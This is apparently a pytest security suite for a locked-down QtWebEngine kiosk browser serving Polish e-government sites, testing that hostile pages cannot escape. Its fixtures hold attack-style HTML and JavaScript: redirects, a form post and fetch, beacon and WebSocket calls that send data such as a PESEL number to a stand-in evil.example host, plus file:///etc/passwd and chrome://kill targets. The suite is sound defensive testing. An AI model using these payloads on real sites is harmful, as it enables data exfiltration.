"""One test (or more) per attack class of SECURITY.md, against the real window.

An allowed site (epuap.gov.pl) turns hostile; an evil site (evil.example) must receive
zero requests, no external program may start, no extra window or dialog may appear.
"""

from __future__ import annotations

import pytest
import shiboken6
from PySide6.QtCore import QObject, Qt, QTimer, QUrl, Slot
from PySide6.QtGui import QDesktopServices
from PySide6.QtTest import QTest
from PySide6.QtWebEngineCore import QWebEnginePage, QWebEngineSettings
from PySide6.QtWidgets import QDialog

from kiosk.web.events import LoadProblem
from kiosk.web.page import MAX_DIALOGS
from tests.support.server import Response, SiteServer
from tests.support.web import (
    ALLOWED,
    EVIL,
    LOGIN,
    SECURE,
    assert_evil_untouched,
    click_element,
    control_request,
    run_js,
    top_level_windows,
    wait_for_url,
    wait_loaded,
    wait_until_loaded_or_stopped,
)

pytestmark = pytest.mark.web


def open_page(qtbot, window, sites: SiteServer, html: str, path: str = "/", host: str = ALLOWED) -> QWebEnginePage:
    sites.route(host, path, html)
    assert window.open(sites.url(host, path))
    page = window.current_page()
    wait_for_url(qtbot, page, host)
    wait_loaded(qtbot, page)
    return page


class SchemeRecorder(QObject):
    """Stands in for the desktop: records every URL QDesktopServices would open."""

    def __init__(self) -> None:
        super().__init__()
        self.calls: list[str] = []

    @Slot(QUrl)
    def handle(self, url: QUrl) -> None:
        self.calls.append(url.toString())


@pytest.fixture
def desktop():
    recorder = SchemeRecorder()
    schemes = ["mailto", "tel", "ms-settings", "file", "sms", "callto", "steam", "ftp"]
    for scheme in schemes:
        QDesktopServices.setUrlHandler(scheme, recorder, "handle")
    yield recorder
    for scheme in schemes:
        QDesktopServices.unsetUrlHandler(scheme)


# --- URL schemes and every sink ------------------------------------------------------------


@pytest.mark.parametrize(
    "target",
    [
        "javascript:document.title='pwned'",
        "data:text/html,<h1>x</h1>",
        "file:///etc/passwd",
        "view-source:http://epuap.gov.pl/",
        "chrome://gpu",
        "chrome://crash",
        "chrome://kill",
        "devtools://devtools/bundled/inspector.html",
        "qrc:/index.html",
        "about:blank",
        "//epuap.gov.pl/",
        "http://evil.example/",
        "https://evil.example\\@epuap.gov.pl/",
        "mailto:x@evil.example",
        "not a url at all",
    ],
)
def test_app_side_open_refuses_non_allowed_targets(window, sites, target: str, qtbot) -> None:
    assert window.open(target) is False
    assert window.is_home()
    assert window.open(sites.url(ALLOWED, "/after"))  # positive control: the engine does load
    qtbot.waitUntil(lambda: any(r.path == "/after" for r in sites.requests), timeout=8000)
    assert [r.path for r in sites.requests if r.path != "/favicon.ico"] == ["/after"]


def test_link_schemes_never_reach_the_desktop(qtbot, window, sites, desktop) -> None:
    links = [
        "mailto:a@b.pl",
        "tel:+48810000000",
        "ms-settings:network",
        "file:///etc/passwd",
        "sms:123",
        "steam://run/1",
    ]
    html = "".join(
        f'<a id="l{i}" href="{href}" style="display:block;height:40px">link</a>' for i, href in enumerate(links)
    )
    html += "<a id=web href='/next' style='display:block;height:40px'>web</a>"
    page = open_page(qtbot, window, sites, html)

    def pointer_click(i: int) -> None:
        click_element(qtbot, window, f"#l{i}")

    def script_click(i: int) -> None:
        run_js(qtbot, page, f"document.getElementById('l{i}').click()")

    for i in range(len(links)):
        # One way at a time: a second hand-off still on its way would reopen the message after Back (seen under load).
        for follow in (pointer_click, script_click):
            follow(i)
            if links[i].startswith("file:"):
                continue
            # Refused, and explained: an application hand-off (issue 26, 4); back to the page.
            qtbot.waitUntil(lambda: window.browser.showing_problem() == LoadProblem.APP_HANDOFF, timeout=5000)
            window.browser.message.back_button.click()
            assert window.browser.showing_problem() is None
    click_element(qtbot, window, "#web")  # positive control: a link after them is followed
    wait_for_url(qtbot, page, "/next")
    assert desktop.calls == []
    assert (
        page.settings().unknownUrlSchemePolicy() == QWebEngineSettings.UnknownUrlSchemePolicy.DisallowUnknownUrlSchemes
    )


def test_javascript_and_data_urls_in_page_do_not_escape(qtbot, window, sites) -> None:
    html = f"""<a id=d href="data:text/html,<script>location='http://{EVIL}:{sites.port}/d'</script>">d</a>
    <iframe src="data:text/html,<img src=http://{EVIL}:{sites.port}/frame>"></iframe>"""
    page = open_page(qtbot, window, sites, html)
    click_element(qtbot, window, "#d")
    run_js(qtbot, page, "location.href = 'view-source:http://epuap.gov.pl/'")
    run_js(qtbot, page, "location.href = 'chrome://gpu'")
    control_request(qtbot, page, sites)
    assert_evil_untouched(sites)
    assert ALLOWED in page.url().toString()


# --- popups, frames, redirects -------------------------------------------------------------


def test_popups_to_evil_are_blocked_and_never_open_a_window(qtbot, window, sites) -> None:
    html = f"""<a id=blank target=_blank href="http://{EVIL}:{sites.port}/blank">x</a>
    <button id=open onclick="window.open('http://{EVIL}:{sites.port}/open')">open</button>
    <script>window.open('http://{EVIL}:{sites.port}/nogesture');</script>"""
    before = top_level_windows()
    page = open_page(qtbot, window, sites, html)
    click_element(qtbot, window, "#blank")
    qtbot.waitUntil(lambda: window.browser.showing_problem() == LoadProblem.BLOCKED)
    window.browser.show_page()
    click_element(qtbot, window, "#open")
    qtbot.waitUntil(lambda: window.browser.showing_problem() == LoadProblem.BLOCKED)
    control_request(qtbot, page, sites)
    assert_evil_untouched(sites)
    assert top_level_windows() == before


def test_allowed_popup_loads_in_the_same_view(qtbot, window, sites) -> None:
    html = f'<a id=blank target=_blank href="http://{LOGIN}:{sites.port}/login">login</a>'
    page = open_page(qtbot, window, sites, html)
    before = top_level_windows()
    click_element(qtbot, window, "#blank")
    wait_for_url(qtbot, page, LOGIN)
    assert window.current_page() is page
    assert top_level_windows() == before


def test_frames_to_evil_are_blocked(qtbot, window, sites) -> None:
    evil = f"http://{EVIL}:{sites.port}"
    html = f"""<iframe src="{evil}/iframe"></iframe><object data="{evil}/object"></object>
    <embed src="{evil}/embed"><iframe srcdoc="<a id=x href='{evil}/srcdoc' target=_top>x</a>
    <script>document.getElementById('x').click()</script>"></iframe>
    <iframe id=blank></iframe>
    <script>document.getElementById('blank').contentWindow.location = '{evil}/blankframe'</script>"""
    page = open_page(qtbot, window, sites, html)
    control_request(qtbot, page, sites)
    assert_evil_untouched(sites)


@pytest.mark.parametrize(
    ("path", "response"),
    [
        ("/302", "server"),
        ("/meta", "meta"),
        ("/script", "script"),
        ("/open-redirect", "open-redirect"),
    ],
)
def test_redirects_to_evil_are_blocked(qtbot, window, sites, path: str, response: str) -> None:
    target = f"http://{EVIL}:{sites.port}/landed"
    if response == "server":
        sites.route(ALLOWED, path, Response(status=302, headers={"Location": target}))
    elif response == "meta":
        sites.route(ALLOWED, path, f'<meta http-equiv="refresh" content="0;url={target}">')
    elif response == "script":
        sites.route(ALLOWED, path, f"<script>location.replace('{target}')</script>")
    else:  # an open redirect on an allowed site: allowed URL, evil destination
        sites.route(ALLOWED, path, lambda seen: Response(status=302, headers={"Location": seen.path.split("to=")[-1]}))
        path = f"{path}?to={target}"
    assert window.open(sites.url(ALLOWED, path))
    qtbot.waitUntil(lambda: window.browser.showing_problem() == LoadProblem.BLOCKED, timeout=8000)
    assert_evil_untouched(sites)  # the refusal on screen is the positive control: the redirect was tried


def test_form_post_to_evil_is_blocked(qtbot, window, sites) -> None:
    html = f"""<form id=f method=post action="http://{EVIL}:{sites.port}/collect">
    <input name=pesel value=90010112345><button id=go>Send</button></form>"""
    page = open_page(qtbot, window, sites, html)
    click_element(qtbot, window, "#go")
    qtbot.waitUntil(lambda: window.browser.showing_problem() == LoadProblem.BLOCKED, timeout=8000)
    control_request(qtbot, page, sites)
    assert_evil_untouched(sites)


BANK = "www.ipko.pl"  # any bank: its host maps to the local server like every other name


@pytest.mark.parametrize("how", ["link", "redirect"])
def test_bank_login_from_the_login_node_gets_its_own_explanation(qtbot, window, sites, how: str) -> None:
    bank = f"http://{BANK}:{sites.port}/login"
    if how == "link":
        page = open_page(qtbot, window, sites, f'<a id=bank href="{bank}">Bank</a>', host=LOGIN)
        click_element(qtbot, window, "#bank")
    else:  # the login node answers "log in with bank X" with a redirect to the bank
        sites.route(LOGIN, "/bank", Response(status=302, headers={"Location": bank}))
        page = open_page(qtbot, window, sites, "<p>wybór metody</p>", host=LOGIN)
        page.runJavaScript("location.href = '/bank'")
    qtbot.waitUntil(lambda: window.browser.showing_problem() == LoadProblem.BANK_LOGIN, timeout=8000)
    assert "Profilem Zaufanym" in window.browser.message.body.text()
    assert window.browser.message.back_button.isVisible()  # back to the login node's choices
    assert sites.hits(BANK) == []


@pytest.mark.parametrize("how", ["link", "script", "redirect"])
@pytest.mark.parametrize("language", ["pl", "en", "uk"])
def test_a_hand_off_to_a_phone_app_is_refused_and_explained(qtbot, window, sites, desktop, how, language) -> None:
    """The national sign-in hands off to phone apps by custom schemes (mObywatel): the
    kiosk refuses the scheme and says to use the QR code with a phone (issue 26, 4)."""
    window.choose(window.choices.with_language(language))
    app = "mobywatel://login?session=abc123"
    if how == "redirect":
        sites.route(LOGIN, "/app", Response(status=302, headers={"Location": app}))
    href = app if how == "link" else "/app"
    html = f'<a id=app href="{href}" style="display:block;height:40px">mObywatel</a>'
    page = open_page(qtbot, window, sites, html, host=LOGIN)
    if how == "script":
        page.runJavaScript(f"location.href = '{app}'")
    else:
        click_element(qtbot, window, "#app")
    qtbot.waitUntil(lambda: window.browser.showing_problem() == LoadProblem.APP_HANDOFF, timeout=8000)
    body = window.browser.message.body.text()
    assert {"pl": "kod QR", "en": "QR code", "uk": "QR-код"}[language] in body
    assert window.browser.message.back_button.isVisible()  # back to the page with the QR code
    assert desktop.calls == []
    window.browser.message.back_button.click()
    assert window.browser.showing_problem() is None and page.url().host() == LOGIN


def test_blocked_link_elsewhere_keeps_the_generic_explanation(qtbot, window, sites) -> None:
    open_page(qtbot, window, sites, f'<a id=out href="http://{BANK}:{sites.port}/">Bank</a>')
    click_element(qtbot, window, "#out")
    qtbot.waitUntil(lambda: window.browser.showing_problem() == LoadProblem.BLOCKED, timeout=8000)


# --- non-navigation traffic ------------------------------------------------------------------


def test_background_traffic_to_evil_never_leaves(qtbot, window, sites) -> None:
    evil = f"http://{EVIL}:{sites.port}"
    sites.route(
        ALLOWED,
        "/sw.js",
        Response(f"self.addEventListener('install', () => fetch('{evil}/sw'));", content_type="text/javascript"),
    )
    html = f"""<link rel=stylesheet href="{evil}/css"><script src="{evil}/script.js"></script>
    <img src="{evil}/img"><link rel=prefetch href="{evil}/prefetch"><link rel=preconnect href="{evil}">
    <script>
      fetch('{evil}/fetch', {{method: 'POST', body: 'typed=secret', mode: 'no-cors'}}).catch(() => {{}});
      const x = new XMLHttpRequest(); x.open('GET', '{evil}/xhr'); x.send();
      navigator.sendBeacon('{evil}/beacon', 'pesel=90010112345');
      try {{ new WebSocket('ws://{EVIL}:{sites.port}/ws'); }} catch (e) {{}}
      new EventSource('{evil}/events');
      navigator.serviceWorker && navigator.serviceWorker.register('/sw.js').catch(() => {{}});
      document.body.style.background = "url({evil}/bg)";
    </script><a id=ping href="/" ping="{evil}/ping">ping</a>"""
    page = open_page(qtbot, window, sites, html)
    click_element(qtbot, window, "#ping")
    wait_for_url(qtbot, page, f"{ALLOWED}:{sites.port}/")  # the ping's link was followed
    wait_loaded(qtbot, page)
    control_request(qtbot, page, sites)
    assert_evil_untouched(sites)
    assert window.web.profile.interceptor.blocked_count > 0


# --- no native UI ------------------------------------------------------------------------------


def no_dialogs() -> bool:
    return not any(isinstance(w, QDialog) for w in top_level_windows())


def answer_when_shown(window, accept: bool, text: str | None = None) -> None:
    """confirm()/prompt() run a nested event loop under the test's own stack, so the test
    answers from a timer, as a visitor's tap would arrive from the event loop."""

    attempts = [100]

    def tap() -> None:
        if not shiboken6.isValid(window.dialogs):
            return
        if not (window.dialogs.isVisible() and window.dialogs.waiting):
            attempts[0] -= 1
            if attempts[0] > 0:
                QTimer.singleShot(50, tap)
            return
        if text is not None:
            window.dialogs.input.setText(text)
        (window.dialogs.ok_button if accept else window.dialogs.cancel_button).click()

    QTimer.singleShot(50, tap)


def test_js_dialogs_are_in_window_overlays_and_capped(qtbot, window, sites) -> None:
    page = open_page(qtbot, window, sites, "<p>dialogs</p>")
    before = top_level_windows()
    page.runJavaScript("alert('<b>Uwaga</b> to jest test')")
    qtbot.waitUntil(lambda: window.dialogs.isVisible())
    assert window.dialogs.text.text() == "<b>Uwaga</b> to jest test"  # plain text, no markup
    assert window.dialogs.text.textFormat() == Qt.TextFormat.PlainText
    window.dialogs.ok_button.click()
    answer_when_shown(window, accept=True)
    page.runJavaScript("window.answer = confirm('Na pewno?')")
    qtbot.waitUntil(lambda: run_js(qtbot, page, "window.answer") is True, timeout=8000)
    answer_when_shown(window, accept=True, text="Anna")
    page.runJavaScript("window.name2 = prompt('Imię?', 'Jan')")
    qtbot.waitUntil(lambda: run_js(qtbot, page, "window.name2") == "Anna", timeout=8000)
    assert not window.dialogs.waiting
    assert top_level_windows() == before
    assert no_dialogs()


def test_dialog_loop_cannot_hold_the_screen(qtbot, window, sites) -> None:
    page = open_page(qtbot, window, sites, "<p>loop</p>")
    for _ in range(MAX_DIALOGS):  # a visitor dismissing whatever blocks the page
        answer_when_shown(window, accept=False)
    page.runJavaScript("for (let i = 0; i < 50; i++) { confirm('loop ' + i); alert(i); }; window.done = true")
    qtbot.waitUntil(lambda: run_js(qtbot, page, "window.done") is True, timeout=10000)
    qtbot.waitUntil(lambda: not window.dialogs.waiting)
    window.dialogs.dismiss_all()
    assert window.dialogs.shown_count == MAX_DIALOGS
    assert page.dialogs_suppressed == 100 - MAX_DIALOGS


def test_file_chooser_returns_nothing_and_explains(qtbot, window, sites) -> None:
    page = open_page(qtbot, window, sites, "<input id=f type=file style='width:300px;height:80px'>")
    click_element(qtbot, window, "#f")
    qtbot.waitUntil(lambda: window.toast.isVisible())
    assert "Wysyłanie plików" in window.toast.text()
    assert run_js(qtbot, page, "document.getElementById('f').files.length") == 0
    assert no_dialogs()


def test_colour_picker_print_and_permissions_have_no_native_ui(qtbot, window, sites) -> None:
    html = """<input id=c type=color style='width:200px;height:80px'>
    <script>
      navigator.geolocation.getCurrentPosition(() => { window.geo = 'granted'; }, () => { window.geo = 'denied'; });
      navigator.mediaDevices.getUserMedia({video: true})
        .then(() => { window.cam = 'granted'; }, () => { window.cam = 'denied'; });
    </script>"""
    before = top_level_windows()
    page = open_page(qtbot, window, sites, html, host=SECURE)
    assert run_js(qtbot, page, "window.isSecureContext") is True
    qtbot.waitUntil(lambda: run_js(qtbot, page, "window.geo") == "denied", timeout=8000)
    qtbot.waitUntil(lambda: run_js(qtbot, page, "window.cam") == "denied", timeout=8000)
    click_element(qtbot, window, "#c")
    qtbot.waitUntil(lambda: window.dialog_guard.rejected >= 1)  # QtWebEngine tried a QColorDialog
    page.runJavaScript("window.print()")
    qtbot.waitUntil(lambda: "Drukowanie" in window.toast.text() and window.toast.isVisible())
    assert no_dialogs()
    assert top_level_windows() == before


def test_http_auth_is_refused_without_a_dialog(qtbot, window, sites) -> None:
    sites.route(ALLOWED, "/secret", Response("no", status=401, headers={"WWW-Authenticate": 'Basic realm="x"'}))
    assert window.open(sites.url(ALLOWED, "/secret"))
    qtbot.waitUntil(lambda: window.toast.isVisible(), timeout=8000)
    wait_until_loaded_or_stopped(qtbot, window.current_page())  # the kiosk stopped asking
    assert no_dialogs()
    # Qt can only answer with empty credentials (see KioskPage._refuse_authentication);
    # the kiosk stops after that one attempt and never sends anything a visitor typed.
    sent = [r.headers.get("authorization") for r in sites.hits(ALLOWED)]
    assert len(sent) <= 3
    assert set(sent) <= {None, "Basic Og=="}


def test_download_is_cancelled_and_nothing_is_written(qtbot, window, sites, home_files) -> None:
    from pathlib import Path

    from tests.conftest import TEST_HOME

    sites.route(
        ALLOWED,
        "/file.zip",
        Response(
            b"PK\x03\x04" + b"0" * 5000,
            content_type="application/zip",
            headers={"Content-Disposition": "attachment; filename=file.zip"},
        ),
    )
    page = open_page(qtbot, window, sites, "<a id=d href='/file.zip' download>pobierz</a>")
    click_element(qtbot, window, "#d")
    qtbot.waitUntil(lambda: window.toast.isVisible() and "Pobieranie" in window.toast.text(), timeout=8000)
    refused: list[str] = []
    window.events.notice.connect(refused.append)
    page.triggerAction(QWebEnginePage.WebAction.SavePage)
    qtbot.waitUntil(lambda: refused == ["download"])  # "Save page" ends in the same refusal
    after = {p for p in Path(TEST_HOME).rglob("*") if p.is_file()}
    new_files = [p for p in after - home_files if "file.zip" in p.name or p.suffix in (".zip", ".html", ".mhtml")]
    assert new_files == []


def test_pdf_opens_in_the_viewer_with_its_escapes_closed(qtbot, window, sites) -> None:
    from pathlib import Path

    pdf = (Path(__file__).parents[1] / "data" / "sample.pdf").read_bytes()
    sites.route(ALLOWED, "/upo.pdf", Response(pdf, content_type="application/pdf"))
    assert window.open(sites.url(ALLOWED, "/upo.pdf"))
    page = window.current_page()
    wait_for_url(qtbot, page, "upo.pdf")
    wait_until_loaded_or_stopped(qtbot, page)
    assert window.browser.showing_problem() is None  # shown, not turned into a download
    assert not window.toast.isVisible()
    page.printRequested.emit()  # what the viewer's print button does
    qtbot.waitUntil(lambda: "Drukowanie" in window.toast.text())
    page.triggerAction(QWebEnginePage.WebAction.SavePage)  # what its download button does
    qtbot.waitUntil(lambda: "Pobieranie" in window.toast.text())
    assert no_dialogs()


def test_certificate_errors_are_rejected_with_a_friendly_page(qtbot, make_window, tmp_path) -> None:
    secure = SiteServer(tls_dir=tmp_path)
    try:
        window = make_window(
            extra=f'[[services]]\nid="secure"\ntitle="S"\nurl="https://secure.example:{secure.port}/"\n'
            'allow=["secure.example"]'.replace('id="secure"', 'id="tls"')
        )
        assert window.open("tls")
        qtbot.waitUntil(lambda: window.browser.showing_problem() == LoadProblem.CERTIFICATE, timeout=10000)
        message = window.browser.message
        assert message.back_button.isVisibleTo(message) and not message.retry_button.isVisibleTo(message)
        assert [r for r in secure.requests if r.method == "GET"] == []  # no request was sent after the handshake
    finally:
        secure.close()


# --- keyboard and gesture escapes ----------------------------------------------------------------


def test_history_keys_and_mouse_buttons_do_nothing(qtbot, window, sites) -> None:
    page = open_page(qtbot, window, sites, "<a id=next href='/second'>next</a>")
    click_element(qtbot, window, "#next")
    wait_for_url(qtbot, page, "/second")
    wait_loaded(qtbot, page)
    handle = window.windowHandle()
    QTest.keyClick(handle, Qt.Key.Key_Left, Qt.KeyboardModifier.AltModifier)
    QTest.keyClick(handle, Qt.Key.Key_Backspace, Qt.KeyboardModifier.AltModifier | Qt.KeyboardModifier.ControlModifier)
    QTest.mouseClick(handle, Qt.MouseButton.BackButton, Qt.KeyboardModifier.NoModifier, window.rect().center())
    run_js(qtbot, page, "window.keys = 0; addEventListener('keydown', () => window.keys++); 1")
    QTest.keyClick(handle, Qt.Key.Key_A)  # positive control: a plain key after them reaches the page
    # A loaded renderer answered after more than 5 s (seen in CI, and here with both cores busy).
    qtbot.waitUntil(lambda: run_js(qtbot, page, "window.keys", timeout=15000) == 1, timeout=15000)
    assert page.url().path() == "/second" and page.history().canGoBack()
    assert window.input.swallowed >= 2


@pytest.mark.parametrize(
    ("key", "modifiers"),
    [
        (Qt.Key.Key_N, Qt.KeyboardModifier.ControlModifier),
        (Qt.Key.Key_U, Qt.KeyboardModifier.ControlModifier),
        (Qt.Key.Key_P, Qt.KeyboardModifier.ControlModifier),
        (Qt.Key.Key_I, Qt.KeyboardModifier.ControlModifier | Qt.KeyboardModifier.ShiftModifier),
        (Qt.Key.Key_F12, Qt.KeyboardModifier.NoModifier),
        (Qt.Key.Key_F5, Qt.KeyboardModifier.NoModifier),
        (Qt.Key.Key_F4, Qt.KeyboardModifier.AltModifier),
    ],
)
def test_browser_shortcuts_are_swallowed_before_the_page(qtbot, window, sites, key, modifiers) -> None:
    page = open_page(
        qtbot,
        window,
        sites,
        "<p id=p style='height:200px'>x</p><script>window.keys = []; addEventListener('keydown', e => "
        "['Control', 'Shift', 'Alt', 'Meta'].includes(e.key) || window.keys.push(e.key))</script>",
    )
    click_element(qtbot, window, "#p")  # the page has the focus: keys go to it unless swallowed
    before = window.input.swallowed
    QTest.keyClick(window.windowHandle(), key, modifiers)
    QTest.keyClick(window.windowHandle(), Qt.Key.Key_A)  # positive control: the next key arrives
    qtbot.waitUntil(lambda: run_js(qtbot, page, "window.keys") == ["a"])
    assert window.input.swallowed == before + 1


def test_typing_still_works(qtbot, window, sites) -> None:
    page = open_page(qtbot, window, sites, "<input id=i style='width:300px;height:60px'>")
    click_element(qtbot, window, "#i")
    qtbot.waitUntil(lambda: run_js(qtbot, page, "document.activeElement.id") == "i")
    for key in (Qt.Key.Key_A, Qt.Key.Key_B, Qt.Key.Key_1):
        QTest.keyClick(window.windowHandle(), key)
    qtbot.waitUntil(lambda: run_js(qtbot, page, "document.getElementById('i').value") == "ab1")


def test_context_menu_and_drop_are_off(qtbot, window, sites) -> None:
    page = open_page(qtbot, window, sites, "<p id=p style='height:200px'>press and hold</p>")
    before = top_level_windows()
    click_element(qtbot, window, "#p", Qt.MouseButton.RightButton)  # returns once the page saw it
    assert top_level_windows() == before
    assert window.browser.view.contextMenuPolicy() == Qt.ContextMenuPolicy.NoContextMenu
    assert not page.settings().testAttribute(QWebEngineSettings.WebAttribute.NavigateOnDropEnabled)


def test_lockdown_window_ignores_close(qtbot, make_window) -> None:
    window = make_window(lockdown=True)
    window.close()
    assert window.isVisible()


def test_hardened_settings(window) -> None:
    settings = window.web.profile.settings()
    attr = QWebEngineSettings.WebAttribute
    for name in (
        "JavascriptCanOpenWindows",
        "LocalContentCanAccessFileUrls",
        "NavigateOnDropEnabled",
        "FullScreenSupportEnabled",
        "ScreenCaptureEnabled",
        "ErrorPageEnabled",
        "JavascriptCanAccessClipboard",
    ):
        assert settings.testAttribute(getattr(attr, name)) is False, name
    assert settings.testAttribute(attr.WebRTCPublicInterfacesOnly)
    assert window.web.profile.isOffTheRecord()
    assert "Infomat/" in window.web.profile.httpUserAgent()
    assert not window.web.profile.isSpellCheckEnabled()


def test_beforeunload_never_blocks_leaving_or_wiping(qtbot, window, sites) -> None:
    html = """<input id=i style='width:300px;height:60px'>
    <script>
      addEventListener('beforeunload', e => { e.preventDefault(); e.returnValue = 'Zostań!'; return 'Zostań!'; });
    </script>"""
    page = open_page(qtbot, window, sites, html)
    click_element(qtbot, window, "#i")  # user activation: Chromium only asks after one
    QTest.keyClick(window.windowHandle(), Qt.Key.Key_A)
    assert window.open(sites.url(LOGIN, "/next"))
    wait_for_url(qtbot, page, LOGIN)
    assert window.dialogs.shown_count == 0
    open_page(qtbot, window, sites, html, path="/again")
    click_element(qtbot, window, "#i")
    window.end_session("visitor")
    assert window.is_home() and window.dialogs.shown_count == 0
